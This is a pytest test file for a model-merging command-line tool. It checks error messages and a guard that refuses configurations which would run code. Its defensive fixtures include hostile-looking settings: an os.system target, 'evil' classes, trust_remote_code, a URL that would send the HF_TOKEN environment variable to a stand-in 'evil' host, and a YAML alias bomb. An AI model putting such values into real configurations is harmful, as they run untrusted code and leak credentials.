"""Bad input in one or two clear lines; parts of the user are named with their file; run directories are data."""

from __future__ import annotations

import csv
import gzip
import json
import re
import shlex
import shutil
import sys
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from typing import Any

import pytest
from omegaconf import OmegaConf

from souping.cli.finished import code_in, read_config, refuse_code
from souping.core.types import UserError
from souping.report.run_files import read_report, read_trials
from souping.report.samples import read_samples
from tests.conftest import Cli, pool_of
from tests.support.composition import compose
from tests.support.family import save_model

FILES = {
    "taken/file": "",
    "table.csv": "model,a,b,c\nm1,1,.5,.2\nm2,.5,.6,.7\nm3,.2,.3,.9\n",
    "pointer": "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 12\n",
    "flat.csv": "model,red,green\nant,1,2\nbee,2,2\ncat,3,2\ndog,4,2\n",
    "short.csv": "model,red,green\nant,1,2\nbee,2\ncat,3,2\ndog,4,2\n",
}


@pytest.mark.parametrize(
    ("words", "needles"),
    [
        ("selector=socee", ["selector", "did you mean soce"]),
        ("selector.thresold=0.3", ["selector.thresold", "did you mean selector.threshold?"]),
        ("+experiment=bfc", ["+experiment=bfc: there is no such choice", "did you mean bfcl"]),
        ("experiment=bfcl", ["+experiment=bfcl"]),
        ("nonsense=1", ["nonsense", "known keys"]),
        ("selector.threshold=high", ["selector.threshold='high'", "a number"]),
        ("optimiser.max_trials=0", ["optimiser.max_trials=0", "at least 1"]),
        ("benchmark.path=none.jsonl", ["benchmark.path=none.jsonl"]),
        ("benchmark.path=table.csv", ["table.csv: row 1", "benchmark.columns"]),
        ("benchmark.path=pointer", ["pointer:1", "git lfs pull"]),
        ("optimiser.max_items=1", ["optimiser.max_items=1", "search split"]),
        ("merge.tokenizer_from=ent", ["merge.tokenizer_from=ent", "did you mean ant"]),
        ("seed=x", ["seed=x", "an integer"]),
        ("selector=3", ["selector=3", "selector=all"]),
        ("a(b=c", ["cannot read the override", "quotes"]),
        ("+temperature=0.5", ["evaluator.temperature"]),
        ("store=/proc/nothing/s", ["/proc/nothing"]),
        ("out=~nosuchuser/x", ["out="]),
        ("evaluator.max_new_tokens=12", ["in which the models differ"]),
        ("scores=table scores.path=flat.csv", ["in which the models differ"]),
        ("scores=table scores.path=short.csv", ["short.csv:3"]),
        ("scores=table scores.path=table.csv pool.candidates=[m1,m2,m3]", ["candidate m1"]),
        ("selector=all pool.candidates=[~/m1,~/m2]", ["candidate m1", "home/m1"]),
        ("pool.candidates=[ANT]", ["at least two"]),
        ("selector=all pool.candidates=[ANT,loop]", ["candidate loop", "is not a folder"]),
        ("pool.candidates=[ANT,ANT]", ["same folder"]),
        ("pool.candidates=[ANT,x/ant]", ["share the name"]),
        ("pool.candidates=[{nme: a}]", ["pool.candidates"]),
    ],
)
def test_a_wrong_setting_is_refused_with_its_key_and_a_suggestion(
    family: Path,
    souping: Cli,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    words: str,
    needles: list[str],
) -> None:
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    shutil.copytree(family / "bee", tmp_path / "x" / "ant")
    (tmp_path / "loop").symlink_to(tmp_path / "loop")
    for name, content in FILES.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text(content)
    given = re.split(r" (?=\w+[.=])", words.replace("ANT", str(family / "ant")))
    souping(*pool_of(family), *given).refused(*needles)
    assert not (tmp_path / "outputs" / "fam").exists()


def test_a_candidate_that_is_broken(family: Path, souping: Cli, tmp_path: Path) -> None:
    broken = Path(shutil.copytree(family / "bee", tmp_path / "broken"))
    words = [f"pool.candidates=[{family / 'ant'},{broken}]", *pool_of(family)[1:], "selector=all"]
    for file in broken.glob("tokenizer*"):
        file.unlink()
    souping(*words).refused("no tokenizer")
    weights = broken / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[:200])
    souping(*words).refused("model.safetensors")
    save_model(broken, 1, hidden_size=32)
    souping(*words).refused("shape")


@pytest.mark.parametrize(
    ("word", "needle"),
    [
        ("pool.candidates=[a,b", "`]` is missing"),
        ("pool.candidates=[{name: a, path: b]", "`}` is missing"),
        ("pool.candidates=a,b]", "`[` is missing"),
        ("guard={x: 1", "`}` is missing"),
        ("optimiser.weights=[[0.5,[0.5]", "`]` is missing"),
        ("pool.candidates=['a' 'b']", "comma"),
        ("pool.candidates=[{name: a} {name: b}]", "comma"),
        ("pool.candidates=[a b]", "comma"),
        ("selector.exclude=[a b,3]", "comma"),
        ("seed=x", "seed=x must be an integer"),
        ("name={a: 1}", "name={a: 1} must be"),
        ("extra_benchmarks=3", "extra_benchmarks=3 must be a list"),
        ("throughput=5 items", "throughput=5 items must be a number"),
        ("analysis=3", "analysis=3"),
        ("selector.threshold.x=1", "selector.threshold="),
    ],
)
def test_a_wrong_type_and_a_missing_bracket_or_comma_are_one_line(
    souping: Cli, word: str, needle: str
) -> None:
    done = souping("+experiment=bfcl", word)
    done.refused(word.partition("=")[0].removesuffix(".x"), needle)
    assert len(done.err.splitlines()) == 1, done.err


@pytest.mark.parametrize(
    ("file", "content", "needle"),
    [
        ("tokenizer_config.json", {"pad_token": 5}, "cannot load"),
        ("config.json", {"rms_norm_eps": "x"}, "cannot load this model"),
        ("chat_template.jinja", "{{ 1/0 }}", "the chat template refuses its messages"),
    ],
)
def test_files_that_libraries_refuse(
    family: Path,
    souping: Cli,
    tmp_path: Path,
    file: str,
    content: str | dict[str, Any],
    needle: str,
) -> None:
    for name in ("ant", "bee"):
        path = Path(shutil.copytree(family / name, tmp_path / name)) / file
        changed = (
            {**json.loads(path.read_text()), **content} if isinstance(content, dict) else content
        )
        path.write_text(changed if isinstance(changed, str) else json.dumps(changed))
    rows = [json.loads(line) for line in (family / "items.jsonl").read_text().splitlines()]
    chat = [{**row, "prompt": [{"role": "user", "content": row["prompt"]}]} for row in rows]
    (tmp_path / "items.jsonl").write_text(
        "\n".join(map(json.dumps, chat if "chat" in file else rows))
    )
    souping(*pool_of(tmp_path, "ant", "bee"), "selector=all").refused(needle)
    assert not (tmp_path / "outputs" / "fam").exists()


@pytest.mark.parametrize(("sizes", "ran"), [("0,2,-1", 1), ("0,9", 0)])
def test_the_table_of_a_sweep_has_refused_jobs(
    family: Path, souping: Cli, tmp_path: Path, sizes: str, ran: int
) -> None:
    words = [
        "selector=topk",
        f"selector.k={sizes}",
        "optimiser=uniform",
        "stop_after=search",
        "hydra.sweep.dir=sweep",
    ]
    done = souping("-m", *pool_of(family), *words)
    assert done.code == 2
    assert done.err.splitlines()[-1].endswith("see sweep.csv")
    rows = list(csv.DictReader((tmp_path / "sweep/sweep.csv").open()))
    assert [row["job"] for row in rows] == [str(number) for number in range(len(sizes.split(",")))]
    assert [bool(row["objective"]) for row in rows].count(True) == ran
    assert rows[0]["refused"] == "selector.k=0 must be an integer at least 1 and at most 1000000000"
    assert len([path for path in (tmp_path / "sweep").iterdir() if path.is_dir()]) == ran


SWEEP = """
# @package _global_
stop_after: search
hydra:
  mode: MULTIRUN
  sweeper:
    params:
      selector.k: 2,3
"""


@pytest.mark.slow
@pytest.mark.parametrize(
    "words",
    [
        ["selector.k=2,3", "stop_after=search", "-m"],
        ["selector.k=2,3", "-m", "store=outputs/s-${hydra:job.num}.sqlite"],
        ["+sweep=sizes", "--config-dir", "more"],
    ],
)
def test_the_last_line_of_a_multirun_is_the_command_that_tests_its_best_job(
    family: Path, souping: Cli, tmp_path: Path, words: list[str]
) -> None:
    (tmp_path / "more/sweep").mkdir(parents=True)
    (tmp_path / "more/sweep/sizes.yaml").write_text(SWEEP)
    pool = [*pool_of(family), "selector=topk", "optimiser=uniform", "hydra.sweep.dir=sweep"]
    done = souping(*pool, *words).ok()
    rows = list(csv.DictReader((tmp_path / "sweep/sweep.csv").open()))
    assert len(rows) == 2
    best = max(rows, key=lambda row: float(row["objective"]))
    (marked,) = [line for line in done.out.splitlines() if "<- best" in line]
    assert f"selector.k={2 + int(best['job'])}" in marked

    command = shlex.split(done.out.splitlines()[-1])
    assert command[0] == "souping"
    souping(*command[1:], "hydra.run.dir=test").ok()
    report = json.loads((tmp_path / "test/report.json").read_text())
    assert report["objective"]["search"] == float(best["objective"])
    assert len(report["recipe"]["ingredients"]) == 2 + int(best["job"])
    assert not (tmp_path / "outputs/s-None.sqlite").exists()


def test_a_second_run_or_multirun_overwrites_no_first_one(
    family: Path, souping: Cli, tmp_path: Path
) -> None:
    words = [
        *pool_of(family, "ant", "bee"),
        "selector=all",
        "optimiser=uniform",
        "stop_after=search",
    ]
    souping(*words, "hydra.run.dir=run").ok()
    before = (tmp_path / "run/config.yaml").read_bytes()
    done = souping(*words, "seed=1", "hydra.run.dir=run").ok()
    assert f"{tmp_path}/run is not empty: this run is in {tmp_path}/run_2\n" in done.err
    assert (tmp_path / "run/config.yaml").read_bytes() == before
    assert (tmp_path / "run_2/trials.csv").is_file()
    for place in ("sweep", "sweep_2"):
        done = souping("-m", *words, "seed=0,1", "hydra.sweep.dir=sweep").ok()
        assert (tmp_path / place / "1/trials.csv").is_file()
        assert len((tmp_path / place / "sweep.csv").read_text().splitlines()) == 3
    assert done.err == "note: sweep is not empty: this multirun is in sweep_2\n"


# ------------------------------------------------------------ parts of the user's


PARTS = """
from dataclasses import dataclass
import numpy as np
from souping.analysis import Analysis
from souping.checkpoints.pool import CandidateSource
from souping.core.protocols import Evaluator, Objective, Selector, Optimiser, Tracker
from souping.core.types import Correlations, Selection
from souping.merge.backend import MergeBackend

@dataclass(frozen=True, kw_only=True)
class Picks(Selector):
    names: list[str]

    def select(self, scores):
        return Selection(ingredients=tuple(self.names), selector=self.label)

@dataclass(frozen=True, kw_only=True)
class Short(Objective):
    @property
    def name(self):
        return "short"

    def coefficients(self, categories):
        return np.ones(1)

@dataclass(frozen=True, kw_only=True)
class Search(Optimiser):
    max_trials: int | None = None
    max_items: int | None = None
    start_at: str = ""

    def start(self, *space):
        return 1 + self.start_at if self.start_at else 7

    def count(self, size):
        return 3

    def describe(self, size):
        return "mine"

class Nothing:
    def resolve(self, at_least=2):
        return ()

@dataclass(frozen=True, kw_only=True)
class PoolPart(CandidateSource):
    like: str | None = None

class EvaluatorPart(Evaluator):
    settings = {"evaluator": "mine"}

    def batches(self, items, repeat=0):
        return [tuple(items)]

class SelectorPart(Selector):
    pass

class OptimiserPart(Optimiser):
    def start(self, space, seed): ...

class MergePart(MergeBackend):
    def open(self, folders, cache=None, like=None): ...

class TrackerPart(Tracker):
    def start(self, config, run_dir): ...

class ObjectivePart(Objective):
    pass

class AnalysisPart(Analysis):
    pass

class Grader:
    pass

grader = Grader()

def half_made():
    return SelectorPart()

def factory():
    return 3

def small(scores):
    return Correlations(rho=np.zeros((1, 1)), low=np.zeros((1, 1)), high=np.zeros((1, 1)))

@dataclass(frozen=True, kw_only=True)
class Falls(Tracker):
    def start(self, config, run_dir):
        raise ValueError("no room")

    def log(self, trial): ...

    def finish(self, report, run_dir, soup=None):
        raise KeyError("never asked")
"""


@pytest.fixture
def mine(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.syspath_prepend(str(tmp_path))
    (tmp_path / "mine_parts.py").write_text(PARTS)
    sys.modules.pop("mine_parts", None)


def swapped(group: str, target: str, *more: str) -> list[str]:
    return [f"~{group}", f"+{group}._target_=mine_parts.{target}", *more]


@pytest.mark.parametrize(
    ("words", "said"),
    [
        (
            swapped("selector", "Picks", "+selector.names=[nobody,ant]"),
            "chose 'nobody', which is not a candidate: ant",
        ),
        (swapped("objective", "Short"), "must give 3 coefficients"),
        (swapped("correlation", "small"), ": rho has shape (1, 1), not (3, 3)"),
        (swapped("optimiser", "Search"), "started a int, which is not a Search: subclass it"),
        (
            swapped("optimiser", "Search", "+optimiser.start_at=a"),
            ": TypeError: unsupported operand",
        ),
        (swapped("optimiser", "factory"), "makes int, not Optimiser"),
    ],
)
def test_a_wrong_result_of_a_users_component_names_its_file_and_line(
    family: Path, souping: Cli, mine: None, words: list[str], said: str
) -> None:
    done = souping(*pool_of(family), *(["selector=all"] if "~optimiser" in words else []), *words)
    done.refused(said)
    assert re.search(r"mine_parts\.\w+ \(\S*mine_parts\.py:\d+\)", done.err), done.err


@pytest.mark.parametrize(
    ("group", "methods"),
    [
        ("pool", ["resolve"]),
        ("evaluator", ["evaluate"]),
        ("selector", ["select"]),
        ("optimiser", ["count", "describe"]),
        ("merge", ["live", "plan", "settings_of", "write_soup"]),
        ("tracker", ["log"]),
        ("objective", ["coefficients"]),
        ("analysis.mine", ["analyse"]),
    ],
)
def test_a_component_that_lacks_a_method_is_refused_before_anything_is_evaluated(
    group: str, methods: list[str], family: Path, souping: Cli, mine: None, tmp_path: Path
) -> None:
    name = f"{group.partition('.')[0].capitalize()}Part"
    node = f"+{group}={{_target_:mine_parts.{name}}}"
    removed = [] if "." in group else [f"~{group}"]
    settings = f"{group.partition('.')[0]}{'=' if '.' in group else '.'}"
    words = [word for word in pool_of(family) if not word.startswith(settings)]
    done = souping(*words, *removed, node)
    done.refused(f"{group}: mine_parts.{name} (", f"lacks {', '.join(methods)}")
    assert not (tmp_path / "outputs/store.sqlite").exists()


def test_factories_and_scorers_that_lack_a_method_are_refused(
    family: Path, souping: Cli, mine: None, tmp_path: Path
) -> None:
    souping(*pool_of(family), *swapped("selector", "half_made")).refused("SelectorPart", "select")
    scorer = "benchmark.scorers={mine:mine_parts.grader}"
    words = [*pool_of(family), scorer]
    souping(*words).refused("mine_parts.grader", "Grader lacks __call__")
    words = [word for word in pool_of(family) if not word.startswith("pool.")]
    souping(*words, *swapped("pool", "Nothing")).refused("CandidateSource")
    assert not (tmp_path / "outputs/store.sqlite").exists()


def test_a_tracker_that_falls_ends_no_run(family: Path, souping: Cli, mine: None) -> None:
    quick = ["selector=all", "optimiser=uniform", "stop_after=search"]
    done = souping(*pool_of(family), *quick, *swapped("tracker", "Falls")).ok()
    assert re.search(
        r"warning: tracker mine_parts.Falls \(.*\): ValueError: no room; the run goes on", done.err
    )
    assert "never asked" not in done.err


SOCE = "souping.selection.SoCE"
CODE: dict[str, tuple[dict[str, Any], str]] = {
    "class": ({"selector": {"_target_": "evil.Evil"}}, "selector._target_"),
    "way through a module of souping": (
        {"selector": {"_target_": "souping.core.files.os.system"}},
        "selector._target_",
    ),
    "class in a list": (
        {"extra_benchmarks": [{"evaluator": {"_target_": "evil.Evil"}}]},
        "extra_benchmarks[0].evaluator._target_",
    ),
    "scorer": (
        {"benchmark": {"_target_": SOCE, "scorers": {"mine": "evil.f"}}},
        "benchmark.scorers",
    ),
    "python": ({"merge": {"_target_": SOCE, "python": "./evil"}}, "merge.python"),
    "interpreter": ({"server": {"_target_": SOCE, "python": "./evil"}}, "server.python"),
    "options of a server": (
        {"server": {"_target_": SOCE, "args": {"middleware": "evil.Evil"}}},
        "server.args",
    ),
    "arguments of an engine": (
        {"evaluator": {"engine": {"_target_": SOCE, "args": {"worker_cls": "evil.Evil"}}}},
        "evaluator.engine.args",
    ),
    "trust": (
        {"evaluator": {"_target_": SOCE, "trust_remote_code": True}},
        "evaluator.trust_remote_code",
    ),
    "task, inline": (
        {"evaluator": {"_target_": SOCE, "tasks": [{"dataset_path": "evil.py"}]}},
        "evaluator.tasks",
    ),
    "cluster": ({"executor": {"_target_": SOCE, "address": "ray://evil"}}, "executor.address"),
    "environment": ({"server": {"url": "http://evil/${oc.env:HF_TOKEN}"}}, "server.url"),
}
DATA = {
    "shipped": {"selector": {"_target_": SOCE, "threshold": 0.2}},
    "arguments of lm_eval": {"evaluator": {"_target_": SOCE, "args": {"max_length": 9}}},
    "switched off": {
        "evaluator": {"_target_": SOCE, "allow_task_code": False, "tasks": ["a"], "scratch": None}
    },
    "a category of that name": {
        "objective": {"_target_": SOCE, "weights": {"python": 1.0, "command": 2.0}}
    },
    "text of a folder": {"name": "\\${x}"},
}


@pytest.mark.parametrize("name", CODE)
def test_settings_that_would_run_code_are_refused_with_file_and_key(name: str) -> None:
    table, key = CODE[name]
    assert [found for found, _ in code_in(table)] == [key]
    config = OmegaConf.create(table)
    with pytest.raises(UserError, match=r"run/config\.yaml: .*\n.*--allow-code") as caught:
        refuse_code(config, Path("run/config.yaml"), [])
    assert key in str(caught.value)
    refuse_code(config, Path("run/config.yaml"), [f"{key}=mine"])


@pytest.mark.parametrize("name", DATA)
def test_settings_that_are_data_are_not_taken_for_code(name: str) -> None:
    assert list(code_in(DATA[name])) == []


@pytest.mark.parametrize(
    "words", [["+experiment=bfcl"], ["+experiment=bfcl", "selector=topk", "merge=mergekit"]]
)
def test_no_shipped_choice_is_refused(words: list[str]) -> None:
    assert list(code_in(compose(words))) == []


def test_a_run_directory_of_somebody_else_imports_nothing(
    souping: Cli, tmp_path: Path, family: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.syspath_prepend(tmp_path)
    (tmp_path / "evil.py").write_text(f"open({str(tmp_path / 'RAN')!r}, 'w').close()\n")
    config = OmegaConf.create(compose(pool_of(family)))
    OmegaConf.update(config, "selector._target_", "evil.Evil")
    (tmp_path / "got").mkdir()
    OmegaConf.save(config, tmp_path / "got" / "config.yaml")
    souping("analyse", "got").refused(
        "got/config.yaml", "selector._target_=evil.Evil", "--allow-code"
    )
    assert not (tmp_path / "RAN").exists()
    assert souping("analyse", "got", "--allow-code").code == 2  # and is no part
    assert (tmp_path / "RAN").exists()


BOMB = "a: &a [x, x]\n"
for before, after in pairwise("abcdefghijkl"):
    BOMB += f"{after}: &{after} [*{before}, *{before}]\n"


@pytest.mark.parametrize(
    "content",
    [
        BOMB.encode(),
        b"name: \xe9\xff\n",
        b"[" * 100_000,
        b"- a\n",
        b"a: [\n",
        b"a: \x00\n",
        b"x" * 2_000_000,
    ],
    ids=["aliases", "latin-1", "nested", "a list", "cut", "NUL", "large"],
)
def test_a_damaged_configuration_is_told_with_its_file(content: bytes, tmp_path: Path) -> None:
    (tmp_path / "config.yaml").write_bytes(content)
    with pytest.raises(UserError, match=r"config\.yaml") as caught:
        read_config(tmp_path / "config.yaml")
    assert len(str(caught.value).splitlines()) == 1


TRIALS = "number,recipe_id,objective,weight:a,score:c,items\n1,f,0.5,1.0,0.5,3\n"
DEEP = "[" * 100_000
DAMAGED: dict[str, tuple[Callable[[Path], Any], list[str]]] = {
    "trials.csv": (
        read_trials,
        [TRIALS.replace(",", ";"), TRIALS.replace("0.5,3", "0.5,3,1"), TRIALS + '"x', ""],
    ),
    "report.json": (read_report, [DEEP, "[]", '{"a": ', ""]),
    "samples.jsonl.gz": (lambda path: list(read_samples(path)), [DEEP, "x"]),
}


@pytest.mark.parametrize("name", DAMAGED)
def test_a_damaged_file_of_a_run_is_told_with_its_name(name: str, tmp_path: Path) -> None:
    path = tmp_path / name
    read, contents = DAMAGED[name]
    for content in contents:
        data = content.encode()
        path.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
        with pytest.raises(UserError, match=re.escape(name)):
            read(path)
    (tmp_path / "trials.csv").write_text(TRIALS)
    assert read_trials(tmp_path / "trials.csv")[0].weights == {"a": 1.0}
